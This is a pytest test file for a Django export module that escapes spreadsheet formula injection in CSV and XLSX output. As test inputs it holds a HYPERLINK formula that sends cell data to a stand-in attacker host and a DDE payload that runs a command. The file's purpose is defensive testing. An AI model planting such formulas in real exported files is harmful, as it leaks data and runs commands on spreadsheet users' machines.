"""core.exports: one escaping rule for spreadsheet formulas, in CSV and XLSX alike."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from core.exports import (
    append_row,
    csv_response,
    csv_text,
    escape_formula,
    xlsx_bytes,
    xlsx_response,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        5,
        -5,
        2.5,
        Decimal("-12.50"),
        None,
        "-12.5",
        "+3",
        "1e5",
        "Geneva",
        "",
        datetime.date(2024, 1, 1),
    ],
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value):
    assert escape_formula(value) == value


def test_a_lazy_translation_becomes_text():
    assert escape_formula(gettext_lazy("=Total")) == "'=Total"


def test_csv_text_and_response_escape_every_cell_including_the_header():
    text = csv_text([[HYPERLINK, 3]], header=["=title"])
    assert list(csv.reader(io.StringIO(text))) == [["'=title"], ["'" + HYPERLINK, "3"]]
    response = csv_response("x.csv", [[HYPERLINK]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Content-Type"].startswith("text/csv")
    assert next(csv.reader(io.StringIO(response.content.decode()))) == ["'" + HYPERLINK]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_hold_the_text_not_a_formula_and_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    append_row(sheet, [HYPERLINK, 1.5, -2])
    cells = list(load_workbook(io.BytesIO(xlsx_bytes(book))).worksheets[0].iter_rows())[0]
    assert cells[0].data_type == "s" and cells[0].value == "'" + HYPERLINK
    assert (cells[1].value, cells[2].value) == (1.5, -2)


def test_xlsx_response_takes_a_workbook_or_its_bytes():
    book = Workbook()
    for content in (book, xlsx_bytes(book)):
        response = xlsx_response("b.xlsx", content)
        assert response["Content-Disposition"] == 'attachment; filename="b.xlsx"'
        assert load_workbook(io.BytesIO(response.content))
